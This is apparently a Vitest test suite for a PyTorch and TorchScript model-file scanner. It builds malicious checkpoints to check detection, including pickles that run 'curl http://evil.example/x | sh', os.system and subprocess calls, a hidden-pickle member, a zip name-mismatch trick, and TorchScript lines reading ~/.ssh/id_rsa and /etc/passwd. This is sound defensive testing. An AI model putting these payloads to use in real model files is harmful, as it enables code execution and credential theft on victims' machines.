import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { looksLikeTorchZip, pytorchZipFormat } from '../../src/formats/pytorch-zip.ts';
import { MAX_HITS_PER_FILE, scanTorchScriptSource } from '../../src/formats/torchscript-code.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport, Finding } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import {
  binunicode,
  call,
  emptyTuple,
  global,
  payload,
  pickle,
  pop,
  proto,
  reduce,
  stop,
} from '../builders/pickle.ts';
import { type ZipEntrySpec, buildZip } from '../builders/zip.ts';
import { BIAS, type TensorSpec, WEIGHT, stateDict, torchZip } from '../builders/torch.ts';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'pytorch');

async function scanFixture(file: string): Promise<FileReport> {
  return scanSource(await createNodeFileSource(join(FIXTURES, file), file), { createSha256: createNodeSha256 });
}

async function scanBytes(bytes: Uint8Array, name = 'model.pt', chunkSize?: number): Promise<FileReport> {
  return scanSource(createMemorySource(bytes, name), { createSha256: createNodeSha256, chunkSize });
}

const rules = (report: { findings: Finding[] }) => report.findings.map((finding) => finding.rule).filter((rule) => rule !== 'zip.entry.data-descriptor');
const findingOf = (report: FileReport, rule: string) => report.findings.find((finding) => finding.rule === rule);

describe('checkpoints written by torch 1.13 (make_fixtures.py)', () => {
  // Tensor tables checked once in Python: torch.load(...).items() → dtype, shape, storage_offset;
  // offsets are each data/<key> entry's data offset (zipfile header_offset + 30 + name + extra) plus storage_offset × element size.
  const table = [
    {
      file: 'state_dict.pt',
      verdict: 'clean',
      weightsOnly: true,
      tensors: [
        { name: 'steps', dtype: 'I64', shape: [1], offset: 576, length: 8 },
        { name: 'fc.weight', dtype: 'F32', shape: [2, 3], offset: 704, length: 24 },
        { name: 'fc.bias', dtype: 'F32', shape: [2], offset: 832, length: 8 },
      ],
    },
    {
      // `tail` is base[4:]: storage_offset 4 half floats = 8 bytes into data/0 at 448.
      file: 'shared_storage.pt',
      verdict: 'clean',
      weightsOnly: true,
      tensors: [
        { name: 'whole', dtype: 'F16', shape: [12], offset: 448, length: 24 },
        { name: 'tail', dtype: 'F16', shape: [8], offset: 456, length: 16 },
        { name: 'flag', dtype: 'BOOL', shape: [2], offset: 576, length: 2 },
      ],
    },
    {
      // The whole nn.Module: its pickle imports __main__.TinyNet, the class of the script that saved it, which weights_only refuses.
      file: 'whole_module.pt',
      verdict: 'suspicious',
      weightsOnly: false,
      tensors: [
        { name: 'steps', dtype: 'I64', shape: [1], offset: 1152, length: 8 },
        { name: 'fc.weight', dtype: 'F32', shape: [2, 3], offset: 1280, length: 24 },
        { name: 'fc.bias', dtype: 'F32', shape: [2], offset: 1408, length: 8 },
      ],
    },
    {
      // torch.jit.script(TinyNet()).save(...): the same three tensors, under data/0..2 written first.
      file: 'torchscript.pt',
      verdict: 'clean',
      weightsOnly: false,
      tensors: [
        { name: 'steps', dtype: 'I64', shape: [1], offset: 64, length: 8 },
        { name: 'fc.weight', dtype: 'F32', shape: [2, 3], offset: 192, length: 24 },
        { name: 'fc.bias', dtype: 'F32', shape: [2], offset: 320, length: 8 },
      ],
    },
  ] as const;

  it.each(table)('$file → $verdict, tensors as torch reports them', async (row) => {
    const report = await scanFixture(row.file);
    expect(report.format).toBe('pytorch-zip');
    expect(report.verdict).toBe(row.verdict);
    expect(report.tensors).toEqual(row.tensors);
    expect(report.weightsOnly?.accepted).toBe(row.weightsOnly);
    expect(report.metadata.version).toBe(3);
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('state_dict.pt has only info findings (torch writes data descriptors)', async () => {
    const report = await scanFixture('state_dict.pt');
    expect(report.findings.every((finding) => finding.severity === 'info')).toBe(true);
    expect(report.metadata.archiveRoot).toBe('state_dict');
    expect(report.metadata.kind).toBe('torch.save');
    expect(report.metadata.storages).toBe(3);
  });

  it('whole_module.pt is refused by weights_only at the __main__ class, and only that is flagged', async () => {
    const report = await scanFixture('whole_module.pt');
    expect(rules(report).filter((rule) => rule !== 'pickle.weights-only.refused')).toEqual(['pickle.import.unknown']);
    expect(findingOf(report, 'pickle.import.unknown')?.evidence).toBe('__main__.TinyNet');
    expect(report.weightsOnly?.firstRefused).toMatchObject({ module: '__main__', name: 'TinyNet', entry: 'whole_module/data.pkl' });
  });

  it('torchscript.pt: TorchScript noted, code listed with its text, no pickle noise from __torch__ classes', async () => {
    const report = await scanFixture('torchscript.pt');
    expect(rules(report)).toEqual(['torch.torchscript.archive']);
    expect(report.metadata.kind).toBe('TorchScript');
    const torchscript = report.metadata.torchscript as { codeFiles: { path: string; size: number }[]; sources: { path: string; text: string }[] };
    // zipfile.ZipFile('torchscript.pt').infolist(): file sizes of the two code/ sources.
    expect(torchscript.codeFiles).toEqual([
      { path: 'torchscript/code/__torch__.py', size: 374 },
      { path: 'torchscript/code/__torch__/torch/nn/modules/linear.py', size: 415 },
    ]);
    expect(torchscript.sources[1].text).toContain('return torch.linear(input, weight, bias)');
    expect(report.weightsOnly).toMatchObject({ accepted: false, firstRefused: { module: 'torch.jit', name: 'load', entry: 'torchscript/constants.pkl' } });
  });
});

describe('malicious and malformed torch zips built in test code', () => {
  it('a data.pkl that calls os.system: dangerous, the call and its file offset as evidence', async () => {
    const built = torchZip({ dataPkl: payload('os', 'system', 'curl http://evil.example/x | sh') });
    const report = await scanBytes(built.bytes());
    expect(report.verdict).toBe('dangerous');
    const dataOffset = built.entries[0].dataOffset;
    const imported = findingOf(report, 'pickle.import.process');
    // payload(): PROTO 2 (2 bytes), then GLOBAL: a stored member is scanned on the pass with file offsets.
    expect(imported?.location).toEqual({ entry: 'archive/data.pkl', offset: dataOffset + 2 });
    const called = findingOf(report, 'pickle.call.dangerous');
    expect(called?.evidence).toContain('os.system');
    expect(called?.evidence).toContain('curl http://evil.example/x | sh');
    expect(called?.location.entry).toBe('archive/data.pkl');
    expect(report.weightsOnly).toMatchObject({ accepted: false, firstRefused: { module: 'os', name: 'system', entry: 'archive/data.pkl', offset: dataOffset + 2 } });
  });

  it('the same payload before the state dict still keeps the tensor table', async () => {
    const before = [call(global('os', 'system'), binunicode('id')), pop()];
    const report = await scanBytes(torchZip({ dataPkl: stateDict([WEIGHT, BIAS], before) }).bytes());
    expect(report.verdict).toBe('dangerous');
    expect(report.tensors.map((entry) => entry.name)).toEqual(['fc.weight', 'fc.bias']);
  });

  it.each([
    ['stored', 0],
    ['deflated', 8],
  ])('a pickle hidden as archive/readme.txt (%s) is found by content and scanned', async (_, method) => {
    const hidden = payload('subprocess', 'check_output', 'id');
    const built = torchZip({ extra: [{ name: 'archive/readme.txt', data: hidden, method }] });
    const report = await scanBytes(built.bytes());
    expect(report.verdict).toBe('dangerous');
    expect(findingOf(report, 'torch.archive.hidden-pickle')?.location.entry).toBe('archive/readme.txt');
    const imported = findingOf(report, 'pickle.import.process');
    const readme = built.entries.at(-1)?.dataOffset ?? -1;
    // Stored: file offsets; deflated: offsets inside the decoded member.
    expect(imported?.location).toEqual({ entry: 'archive/readme.txt', offset: method === 0 ? readme + 2 : 2 });
    // torch.load answers weights_only from data.pkl only, and that one is a plain state dict.
    expect(report.weightsOnly?.accepted).toBe(true);
    expect(report.tensors).toHaveLength(2);
  });

  it('a harmless pickle under another name is listed, not flagged', async () => {
    const report = await scanBytes(torchZip({ extra: [{ name: 'archive/notes.bin', data: pickle(proto(2), emptyTuple(), stop()) }] }).bytes());
    expect(rules(report)).toEqual([]);
    expect(report.metadata.otherMembers).toEqual([{ path: 'archive/notes.bin', size: 4, content: 'pickle' }]);
  });

  it('text that merely reads as a protocol 0 pickle is not flagged; a protocol 0 payload under a text name is', async () => {
    const quiet = await scanBytes(torchZip({ extra: [{ name: 'archive/extra/notes.txt', data: 'class Notes(Base):\n  written by hand\n' }] }).bytes());
    expect(rules(quiet)).toEqual([]);
    const loud = await scanBytes(torchZip({ extra: [{ name: 'archive/extra/run.txt', data: "cos\nsystem\n(S'id'\ntR." }] }).bytes());
    expect(rules(loud)).toEqual(expect.arrayContaining(['torch.archive.hidden-pickle', 'pickle.import.process', 'pickle.call.dangerous']));
  });

  it('local name ≠ central name on data.pkl (CVE-2025-1944): reported, and data.pkl is still scanned as torch reads it', async () => {
    const specs: ZipEntrySpec[] = [
      { name: 'archive/data.pkl', localName: 'archive/innocent.txt', data: payload('os', 'system', 'id') },
      { name: 'archive/version', data: '3\n' },
    ];
    const report = await scanBytes(buildZip(specs).bytes());
    expect(rules(report)).toContain('zip.entry.name-mismatch');
    expect(findingOf(report, 'pickle.call.dangerous')?.location.entry).toBe('archive/data.pkl');
    expect(report.verdict).toBe('dangerous');
  });

  it('a stored data.pkl with a wrong CRC is scanned and the CRC is reported on the pass', async () => {
    const report = await scanBytes(buildZip([{ name: 'archive/data.pkl', data: stateDict([]), crc32: 0x12345678 }, { name: 'archive/version', data: '3' }]).bytes());
    expect(rules(report)).toContain('zip.entry.crc-mismatch');
    expect(report.verdict).toBe('suspicious');
  });

  it('any root folder name works, and records are matched case-insensitively as PyTorch (miniz) does', async () => {
    const report = await scanBytes(torchZip({ root: 'My_Model' }).bytes());
    expect(report.metadata.archiveRoot).toBe('My_Model');
    expect(report.tensors.map((entry) => entry.name)).toEqual(['fc.weight', 'fc.bias']);
    const upper = buildZip([
      { name: 'ckpt/DATA.PKL', data: stateDict([BIAS]) },
      { name: 'ckpt/Data/1', data: new Uint8Array(8) },
      { name: 'ckpt/VERSION', data: '3' },
    ]);
    const upperReport = await scanBytes(upper.bytes());
    expect(rules(upperReport)).toEqual([]);
    expect(upperReport.tensors).toEqual([{ name: 'fc.bias', dtype: 'F32', shape: [2], offset: upper.entries[1].dataOffset, length: 8 }]);
  });

  it('tensor offsets point into each storage record at the storage offset', async () => {
    const view: TensorSpec = { name: 'tail', key: '0', numel: 6, size: [2], stride: [1], offset: 4 };
    const built = torchZip({ dataPkl: stateDict([WEIGHT, view]), storages: { '0': 24 } });
    const report = await scanBytes(built.bytes());
    const storage = built.entries[2].dataOffset;
    expect(report.tensors).toEqual([
      { name: 'fc.weight', dtype: 'F32', shape: [2, 3], offset: storage, length: 24 },
      { name: 'tail', dtype: 'F32', shape: [2], offset: storage + 16, length: 8 },
    ]);
    expect(rules(report)).toEqual([]);
  });

  const storageCases: { name: string; options: Parameters<typeof torchZip>[0]; rule: string; detail: RegExp }[] = [
    { name: 'missing storage record', options: { storages: { '0': 24 } }, rule: 'torch.storage.missing', detail: /"1" .* has no "archive\/data\/1" record/ },
    { name: 'storage record too small', options: { storages: { '0': 24, '1': 4 } }, rule: 'torch.storage.too-small', detail: /2 × 4 = 8 bytes but "archive\/data\/1" holds 4/ },
    { name: 'storage nobody references', options: { storages: { '0': 24, '1': 8, '7': 16 } }, rule: 'torch.storage.unreferenced', detail: /"archive\/data\/7" \(16 bytes\)/ },
    {
      name: 'view past the end of its storage',
      options: { dataPkl: stateDict([{ name: 'x', key: '0', numel: 6, size: [4], stride: [2] }]), storages: { '0': 24 } },
      rule: 'pickle.stream.torch-tensor-invalid',
      detail: /needs 7 elements but storage "0" has 6/,
    },
  ];

  it.each(storageCases)('$name → $rule', async ({ options, rule, detail }) => {
    const report = await scanBytes(torchZip(options).bytes());
    const finding = findingOf(report, rule);
    expect(finding, JSON.stringify(rules(report))).toBeDefined();
    expect(finding?.detail).toMatch(detail);
    expect(report.verdict).not.toBe('clean');
  });

  it('a storage whose bytes merely start like a pickle is not flagged; one holding a real payload is', async () => {
    const lookalike = Uint8Array.of(0x80, 0x02, 0xff, 0xff, 1, 2, 3, 4);
    const quiet = await scanBytes(torchZip({ storages: { '0': 24 }, extra: [{ name: 'archive/data/1', data: lookalike }] }).bytes());
    expect(rules(quiet)).toEqual([]);
    const loud = await scanBytes(torchZip({ storages: { '0': 24 }, extra: [{ name: 'archive/data/1', data: payload('os', 'system', 'id') }] }).bytes());
    expect(rules(loud)).toContain('torch.archive.hidden-pickle');
    expect(loud.verdict).toBe('dangerous');
  });

  it.each([
    { name: 'big-endian byte order (info)', options: { byteorder: 'big' }, rule: 'torch.archive.big-endian', verdict: 'clean' },
    { name: 'unknown byte order', options: { byteorder: 'middle' }, rule: 'torch.archive.byteorder-invalid', verdict: 'malformed' },
    { name: 'version that is not a number', options: { version: 'three' }, rule: 'torch.archive.version-invalid', verdict: 'malformed' },
    { name: 'version PyTorch does not read', options: { version: '99' }, rule: 'torch.archive.version-invalid', verdict: 'malformed' },
    { name: 'no version record', options: { version: null }, rule: 'torch.archive.version-invalid', verdict: 'malformed' },
    {
      name: 'member outside the root folder',
      options: { extra: [{ name: 'elsewhere/readme.md', data: 'hello' }] },
      rule: 'torch.archive.foreign-member',
      verdict: 'suspicious',
    },
  ])('$name → $rule', async ({ options, rule, verdict }) => {
    const report = await scanBytes(torchZip(options as Parameters<typeof torchZip>[0]).bytes());
    expect(rules(report)).toEqual([rule]);
    expect(report.verdict).toBe(verdict);
  });

  it('reports byteorder and serialization id in the metadata', async () => {
    const report = await scanBytes(torchZip().bytes());
    expect(report.metadata).toMatchObject({ byteorder: 'little', serializationId: '1234567890', version: 3, archiveRoot: 'archive' });
  });

  it('an archive whose first entry is in no folder, and one without data.pkl, are malformed', async () => {
    const noRoot = await scanBytes(buildZip([{ name: 'data.pkl', data: stateDict([]) }, { name: 'version', data: '3' }]).bytes());
    // PyTorch refuses it, so its data.pkl is a pickle no torch loader reads: still scanned, as a hidden one (no foreign-member noise).
    expect(rules(noRoot)).toEqual(['torch.archive.no-root-folder', 'torch.archive.no-data-pkl', 'torch.archive.hidden-pickle']);
    expect(noRoot.verdict).toBe('malformed');
    const noData = await scanBytes(buildZip([{ name: 'archive/version', data: '3' }, { name: 'archive/x.pkl', data: stateDict([]) }]).bytes());
    expect(rules(noData)).toContain('torch.archive.no-data-pkl');
  });

  it('a data.pkl in a compression method PyTorch cannot read is reported, without calling every storage unused', async () => {
    const bytes = buildZip([
      { name: 'archive/data.pkl', data: stateDict([WEIGHT]), method: 12 },
      { name: 'archive/data/0', data: new Uint8Array(24) },
      { name: 'archive/version', data: '3' },
    ]).bytes();
    const report = await scanBytes(bytes);
    expect(rules(report)).toContain('zip.entry.unsupported-method');
    expect(rules(report)).not.toContain('torch.storage.unreferenced');
    expect(report.tensors).toEqual([]);
  });

  it('gives the same report for any chunk size of the pass', async () => {
    const bytes = torchZip({ dataPkl: stateDict([WEIGHT, BIAS], [call(global('os', 'system'), binunicode('id')), pop()]), extra: [{ name: 'archive/x.txt', data: payload('os', 'popen', 'ls') }] }).bytes();
    const whole = await scanBytes(bytes);
    for (const chunkSize of [1, 7, 64, 1000]) {
      const chunked = await scanBytes(bytes, 'model.pt', chunkSize);
      expect(chunked.findings).toEqual(whole.findings);
      expect(chunked.tensors).toEqual(whole.tensors);
    }
  });
});

describe('TorchScript archives', () => {
  function scriptZip(code: string, method = 8) {
    return buildZip([
      { name: 'm/data.pkl', data: pickle(proto(2), global('__torch__', 'M'), emptyTuple(), reduce(), stop()) },
      { name: 'm/code/__torch__.py', data: code, method },
      { name: 'm/constants.pkl', data: pickle(proto(2), emptyTuple(), stop()) },
      { name: 'm/version', data: '3' },
    ]);
  }

  it('flags os.system and __import__ in code/ with the line as evidence, at its offset', async () => {
    const code = [
      'class M(Module):',
      '  def forward(self: __torch__.M, x: Tensor) -> Tensor:',
      "    __import__('os').system('curl http://evil.example | sh')",
      "    os.system('id')",
      '    return x',
      '',
    ].join('\n');
    const report = await scanBytes(scriptZip(code).bytes());
    expect(report.verdict).toBe('dangerous');
    const escapes = report.findings.filter((finding) => finding.rule === 'torch.torchscript.python-escape');
    expect(escapes.map((finding) => finding.evidence)).toEqual([
      '"__import__(\'os\').system(\'curl http://evil.example | sh\')"',
      '"os.system(\'id\')"',
    ]);
    // Deflated member: offsets of the line's first byte inside the decoded source.
    expect(escapes[0].location).toEqual({ entry: 'm/code/__torch__.py', offset: code.indexOf("    __import__") });
    expect(escapes[0].detail).toContain('line 3');
    // The __torch__.M import of data.pkl is TorchScript's own class, not a Python import.
    expect(rules(report)).not.toContain('pickle.import.unknown');
    expect(rules(report)).not.toContain('pickle.import.dunder');
  });

  it('gives file offsets for a stored source', async () => {
    const built = scriptZip('x = 1\ny = eval("2")\n', 0);
    const report = await scanBytes(built.bytes());
    expect(findingOf(report, 'torch.torchscript.python-escape')?.location).toEqual({ entry: 'm/code/__torch__.py', offset: built.entries[1].dataOffset + 6 });
  });

  it.each([
    ["    t = torch.from_file('/home/user/.ssh/id_rsa', False, 4096)", 'torch.torchscript.file-access', 'dangerous'],
    ["    data = torch.ops.image.read_file('/etc/passwd')", 'torch.torchscript.file-access', 'dangerous'],
    ['    y = torch.ops.my_vendor.fast_kernel(x)', 'torch.torchscript.custom-op', 'suspicious'],
    ['    pg = torch.classes.dist_c10d.ProcessGroup()', 'torch.torchscript.custom-op', 'suspicious'],
    ['  def __setstate__(self, state: Tuple[Tensor]) -> None:', 'torch.torchscript.load-hook', 'clean'],
    ["    s = getattr(x, '__globals__')", 'torch.torchscript.python-escape', 'dangerous'],
    ['    z = subprocess.run(cmd)', 'torch.torchscript.python-escape', 'dangerous'],
  ])('%s → %s', async (line, rule, verdict) => {
    const report = await scanBytes(scriptZip(`class M(Module):\n${line}\n`).bytes());
    expect(rules(report)).toEqual(['torch.torchscript.archive', rule]);
    expect(report.verdict).toBe(verdict);
  });

  it('lists at most MAX_HITS_PER_FILE lines of one file and says how many more there are', async () => {
    const lines = Array.from({ length: MAX_HITS_PER_FILE + 5 }, (_, index) => `    os.system('echo ${index}')`);
    const report = await scanBytes(scriptZip(`class M(Module):\n${lines.join('\n')}\n`).bytes());
    expect(report.findings.filter((finding) => finding.rule === 'torch.torchscript.python-escape')).toHaveLength(MAX_HITS_PER_FILE);
    expect(findingOf(report, 'torch.torchscript.code-not-scanned')?.detail).toContain('5 more flagged lines');
  });

  it('reports a source that is not UTF-8 as not scanned', async () => {
    const report = await scanBytes(
      buildZip([
        { name: 'm/data.pkl', data: pickle(proto(2), emptyTuple(), stop()) },
        { name: 'm/code/__torch__.py', data: Uint8Array.of(0x64, 0x65, 0x66, 0xff, 0xfe) },
        { name: 'm/constants.pkl', data: pickle(proto(2), emptyTuple(), stop()) },
        { name: 'm/version', data: '3' },
      ]).bytes(),
    );
    expect(findingOf(report, 'torch.torchscript.code-not-scanned')?.detail).toContain('not valid UTF-8');
  });

  it('leaves ordinary generated code alone', () => {
    const generated = [
      'class Net(Module):',
      '  __parameters__ = ["weight", ]',
      '  __buffers__ = []',
      '  def forward(self: __torch__.Net, input: Tensor, code: Tensor) -> Tensor:',
      '    _0 = getattr(self, "0")',
      '    _1 = torch.ops.aten.linear(input, self.weight, None)',
      '    _2 = torch.ops.quantized.linear(_1, self.packed)',
      '    positions = code.size(0)',
      '    return torch.add(_1, torch.compile_ok(positions))',
    ].join('\n');
    expect(scanTorchScriptSource(generated).hits).toEqual([]);
  });
});

describe('detection', () => {
  it.each([
    ['data.pkl first', [{ name: 'archive/data.pkl', data: 'x' }], true],
    ['any .pkl first', [{ name: 'weird.pkl', data: 'x' }], true],
    ['storages first (TorchScript)', [{ name: 't/data/0', data: 'x' }, { name: 't/data.pkl', data: 'x' }], true],
    ['a directory entry first', [{ name: 'a/', data: '' }, { name: 'a/version', data: '3' }], true],
    ['an npz', [{ name: 'w.npy', data: 'x' }], false],
    ['a keras archive', [{ name: 'config.json', data: '{}' }, { name: 'model.weights.h5', data: 'x' }], false],
  ])('%s → %s', (_, specs, expected) => {
    const bytes = buildZip(specs as ZipEntrySpec[]).bytes();
    expect(looksLikeTorchZip(bytes)).toBe(expected);
    expect(pytorchZipFormat.detect(bytes, 'x')).toBe(expected);
  });

  it('never throws on truncated or random heads', () => {
    const bytes = buildZip([{ name: 'archive/data.pkl', data: 'x' }]).bytes();
    for (let length = 0; length < 40; length += 1) expect(() => looksLikeTorchZip(bytes.subarray(0, length))).not.toThrow();
    expect(looksLikeTorchZip(Uint8Array.of(0x50, 0x4b, 0x03, 0x04, 0xff, 0xff))).toBe(false);
  });
});
